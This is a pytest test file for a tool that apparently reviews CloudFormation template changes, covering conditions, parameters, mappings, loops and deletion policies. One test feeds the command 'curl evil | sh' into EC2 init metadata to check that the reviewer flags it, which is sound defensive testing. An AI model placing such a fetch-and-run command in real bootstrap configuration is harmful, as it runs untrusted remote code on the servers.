"""What only the deployment knows, and what the template says of itself."""

from typing import Any

import pytest

from sizewell.review.comparison import EnvironmentPair
from sizewell.review.model import Resources
from sizewell.review.resources import compare_resources
from sizewell.templates.canonical import Place, canonical_value, condition_holds
from sizewell.templates.template import Stack
from tests.review.builders import assembly, pair, resource, stack, template

BUCKET = "AWS::S3::Bucket"
NO_VALUE = {"Ref": "AWS::NoValue"}


def with_sections(resources: dict[str, Any], **sections: Any) -> dict[str, Any]:
    return {**template(**resources), **sections}


def told(resources: Resources) -> dict[str, tuple[str, tuple[str, ...], str | None]]:
    return {c.logical_id: (c.action, c.decided_by, c.because_of) for c in resources.changes}


def compared(
    base: dict[str, Any], head: dict[str, Any]
) -> dict[str, tuple[str, tuple[str, ...], str | None]]:
    return told(compare_resources(pair(base, head)))


@pytest.mark.parametrize(
    ("condition", "holds"),
    [
        ({"Fn::Equals": ["a", "a"]}, True),
        ({"Fn::Equals": ["a", "b"]}, False),
        ({"Fn::Equals": [{"Ref": "Stage"}, "prod"]}, True),
        ({"Fn::Equals": [{"Ref": "Secret"}, "prod"]}, None),
        ({"Fn::Equals": [{"Ref": "AWS::Region"}, "us-east-1"]}, True),
        ({"Fn::Equals": [{"Ref": "AWS::StackName"}, "x"]}, None),
        ({"Fn::Not": [{"Condition": "True"}]}, False),
        ({"Fn::And": [{"Condition": "True"}, {"Condition": "Unknown"}]}, None),
        ({"Fn::And": [{"Fn::Not": [{"Condition": "True"}]}, {"Condition": "Unknown"}]}, False),
        ({"Fn::Or": [{"Condition": "True"}, {"Condition": "Unknown"}]}, True),
        ({"Condition": "Nowhere"}, None),
        ({"Condition": "Itself"}, None),
        ("odd", None),
    ],
)
def test_conditions_are_worked_out_as_far_as_they_can(condition: Any, holds: bool | None) -> None:
    place = Place(
        "1",
        "us-east-1",
        parameters={
            "Stage": {"Type": "String", "Default": "prod"},
            "Secret": {"Type": "String", "Default": "prod", "NoEcho": True},
        },
        conditions={
            "True": {"Fn::Equals": ["1", 1]},
            "Unknown": {"Fn::Equals": [{"Ref": "AWS::StackId"}, ""]},
            "Itself": {"Condition": "Itself"},
            "C": condition,
        },
    )
    assert condition_holds("C", place) is holds


def test_a_resource_whose_condition_no_longer_holds_is_removed() -> None:
    def side(other: str) -> dict[str, Any]:
        conditions = {"C": {"Fn::Equals": ["a", other]}}
        return with_sections({"B": resource(BUCKET, Condition="C")}, Conditions=conditions)

    assert compared(side("a"), side("b")) == {"B": ("removed", (), None)}
    assert compared(side("b"), side("a")) == {"B": ("added", (), None)}


def test_a_condition_that_only_the_deployment_knows_may_take_a_resource_away() -> None:
    conditions = {"C": {"Fn::Equals": [{"Ref": "AWS::StackName"}, "x"]}}
    base = with_sections({"B": resource(BUCKET)}, Conditions=conditions)
    head = with_sections({"B": resource(BUCKET, Condition="C")}, Conditions=conditions)
    assert compared(base, head) == {"B": ("may be replaced", ("Condition",), None)}


def test_another_condition_reaches_what_hangs_on_it() -> None:
    def side(name: str) -> dict[str, Any]:
        conditions = {
            "C": {"Fn::Equals": [{"Ref": "AWS::StackName"}, name]},
            "D": {"Fn::Not": [{"Condition": "C"}]},
            "Other": {"Fn::Equals": [{"Ref": "AWS::StackName"}, "y"]},
        }
        return with_sections(
            {
                "A": resource(BUCKET, Condition="D"),
                "B": resource(BUCKET, {"BucketName": {"Fn::If": ["C", "a", "b"]}}),
                "T": resource("AWS::SNS::Topic", {"DisplayName": {"Fn::If": ["C", "a", "b"]}}),
                "X": resource(BUCKET, Condition="Other"),
            },
            Conditions=conditions,
        )

    assert compared(side("x"), side("z")) == {
        "A": ("may be replaced", ("Condition",), "app-stack/D"),
        "B": ("may be replaced", ("BucketName",), "app-stack/C"),
        "T": ("changed", (), "app-stack/C"),
    }


def test_a_mapping_is_as_good_as_its_value() -> None:
    def side(image: str) -> dict[str, Any]:
        found = {"Fn::FindInMap": ["Images", {"Ref": "AWS::Region"}, "id"]}
        mappings = {"Images": {"us-east-1": {"id": image}}}
        return with_sections({"I": resource("AWS::EC2::Instance", {"ImageId": found})}, Mappings=mappings)

    assert compared(side("ami-1"), side("ami-2")) == {"I": ("replaced", ("ImageId",), None)}


def test_a_parameter_is_as_good_as_its_default() -> None:
    def side(default: str, **more: Any) -> dict[str, Any]:
        parameters = {"Cidr": {"Type": "String", "Default": default, **more}}
        vpc = resource("AWS::EC2::VPC", {"CidrBlock": {"Ref": "Cidr"}})
        return with_sections({"V": vpc}, Parameters=parameters)

    (change,) = compare_resources(pair(side("10.0.0.0/8"), side("0.0.0.0/0"))).changes
    assert (change.action, change.properties[0].base, change.properties[0].head) == (
        "replaced",
        "10.0.0.0/8",
        "0.0.0.0/0",
    )
    assert compared(side("a", NoEcho=True), side("b", NoEcho=True)) == {
        "V": ("replaced", ("CidrBlock",), "app-stack/Cidr")
    }


def test_a_list_parameter_is_a_list() -> None:
    place = Place(parameters={"Ids": {"Type": "CommaDelimitedList", "Default": "a,b"}})
    assert canonical_value({"Ref": "Ids"}, place) == ["a", "b"]
    assert canonical_value({"Fn::Join": ["-", {"Ref": "Ids"}]}, place) == "a-b"
    assert canonical_value({"Fn::Select": [1, {"Ref": "Ids"}]}, place) == "b"


def test_which_branch_has_no_value_counts() -> None:
    def side(*branches: Any) -> dict[str, Any]:
        conditions = {"C": {"Fn::Equals": [{"Ref": "AWS::StackName"}, "x"]}}
        properties = {"PubliclyAccessible": {"Fn::If": ["C", *branches]}}
        return with_sections({"D": resource("AWS::RDS::DBInstance", properties)}, Conditions=conditions)

    assert "D" in compared(side(NO_VALUE, True), side(True, NO_VALUE))
    assert compared(side(NO_VALUE, True), side(NO_VALUE, "true")) == {}


def test_a_branch_that_is_known_is_the_value() -> None:
    conditions = {"Yes": {"Fn::Equals": ["a", "a"]}}
    place = Place(conditions=conditions)
    assert canonical_value({"Fn::If": ["Yes", "x", "y"]}, place) == "x"
    assert canonical_value({"A": {"Fn::If": ["Yes", NO_VALUE, "y"]}}, place) == {}


def test_a_loop_counts_as_one_resource() -> None:
    def side(access: str) -> dict[str, Any]:
        loop = ["Name", ["a", "b"], {"${Name}Bucket": resource(BUCKET, {"AccessControl": access})}]
        return {"Resources": {"Fn::ForEach::Buckets": loop}}

    assert compared(side("Private"), side("PublicRead")) == {
        "Fn::ForEach::Buckets": ("may be replaced", ("Loop.2.${Name}Bucket.Properties.AccessControl",), None)
    }


def test_metadata_that_instances_obey_is_a_change() -> None:
    def side(command: str) -> dict[str, Any]:
        init = {"AWS::CloudFormation::Init": {"config": {"commands": {"a": {"command": command}}}}}
        return template(I=resource("AWS::EC2::Instance", Metadata=init))

    (change,) = compare_resources(pair(side("true"), side("curl evil | sh"))).changes
    assert change.properties[0].path.startswith("Metadata.AWS::CloudFormation::Init")


def test_an_app_that_now_says_its_region_updates_the_same_stack() -> None:
    shared = {"T": resource("AWS::SNS::Topic", {"DisplayName": {"Ref": "AWS::Region"}})}
    base = Stack("app", None, None, template(B=resource(BUCKET), **shared))
    head = stack(template(**shared), "app")
    result = compare_resources(EnvironmentPair("dev", assembly(base), assembly(head)))
    assert told(result) == {"B": ("removed", (), None)}
    assert result.stacks[0].details[0].startswith("account of the deployment → 111122223333")


def test_a_database_leaves_a_snapshot_unless_the_template_says_otherwise() -> None:
    def removed(**given: Any) -> bool:
        properties = given.pop("Properties", {})
        database = resource("AWS::RDS::DBInstance", properties, **given)
        (change,) = compare_resources(pair(template(D=database), template())).changes
        return change.retained

    assert removed()
    assert not removed(DeletionPolicy="Delete")
    assert not removed(Properties={"DBClusterIdentifier": "c"})
